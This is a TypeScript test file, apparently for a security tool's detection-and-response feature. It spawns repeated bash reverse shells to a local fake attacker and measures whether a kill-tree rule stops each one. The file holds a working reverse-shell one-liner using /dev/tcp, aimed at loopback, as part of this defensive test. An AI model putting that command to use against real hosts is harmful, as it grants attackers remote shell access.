// SPDX-License-Identifier: Apache-2.0
//
// Reverse shells under `vedette run` whose rule is answered by kill-tree, one after another. Their attacker
// has each run a program as soon as it takes commands. What that program leaves says whether and when it ran.
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer, type Socket } from "node:net";
import { join } from "node:path";
import { stringify } from "yaml";
import { run, scratch, VEDETTE } from "./programs.js";

export interface Rounds {
  rounds: number;
  /** Of the row. Under `dry-run` each shell is told to exit by itself. */
  mode: "enforce" | "dry-run";
  flags: string[];
  env: Record<string, string>;
}

export interface ReverseShells {
  shells: number;
  closed: number;
  /** In which rounds the attacker's program ran, and when it did so last (ms since the epoch). */
  ran: { round: number; at: number }[];
  /** When each round's shell was told as killed with its tree (ms since the epoch). */
  done: number[];
}

/** Resolves when all have ended. */
export async function reverseShells({ rounds, mode, flags, env }: Rounds): Promise<ReverseShells> {
  const folder = scratch();
  const attacker = await startAttacker(folder, mode === "dry-run" ? "; exit" : "");
  const row = { rules: ["Shell on a socket"], action: "kill-tree", mode, limit: { per_minute: 1000 } };
  const [respond, alerts] = [join(folder, "respond.yaml"), join(folder, "alerts.json")];
  writeFileSync(respond, stringify({ respond: [row] }));
  const shell = `bash -c 'bash -i >&/dev/tcp/127.0.0.1/${attacker.port} 0>&1' 2>/dev/null`;
  const script = `i=0; while [ $i -lt ${rounds} ]; do ${shell}; i=$((i+1)); done; echo over`;
  const policy = ["--policy", "policies/command-and-control/shell-on-socket"];
  const argv = [...VEDETTE, "run", ...policy, "--respond", respond, "--alerts", alerts, ...flags];
  const { stdout, stderr } = await run([...argv, "--", "sh", "-c", script], { limitMs: 240_000, env });
  if (stdout !== "over\n") throw new Error(`the shells did not all end: ${stderr}`);
  const { shells, closed } = attacker.end();
  return { shells, closed, ran: programsIn(folder), done: killsIn(alerts) };
}

async function startAttacker(folder: string, then: string) {
  let [shells, closed] = [0, 0];
  const server = createServer((shell: Socket) => {
    const command = `/usr/bin/touch ${join(folder, `ran.${shells++}`)}${then}\n`;
    const asking = setInterval(() => shell.write(command), 1);
    shell.write(command);
    shell
      .on("error", () => undefined)
      .on("data", () => undefined)
      .on("close", () => {
        clearInterval(asking);
        closed++;
      });
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address() as { port: number };
  const end = () => {
    server.close();
    return { shells, closed };
  };
  return { port, end };
}

function programsIn(folder: string): ReverseShells["ran"] {
  const files = readdirSync(folder).filter((name) => name.startsWith("ran."));
  return files.map((name) => ({ round: Number(name.slice(4)), at: statSync(join(folder, name)).mtimeMs }));
}

function killsIn(alerts: string): number[] {
  const lines = readFileSync(alerts, "utf8").split("\n");
  const told = lines.filter((line) => line.includes("Response kill-tree: done")).map((line) => JSON.parse(line));
  return told.map((alert: { time: string }) => Date.parse(alert.time));
}
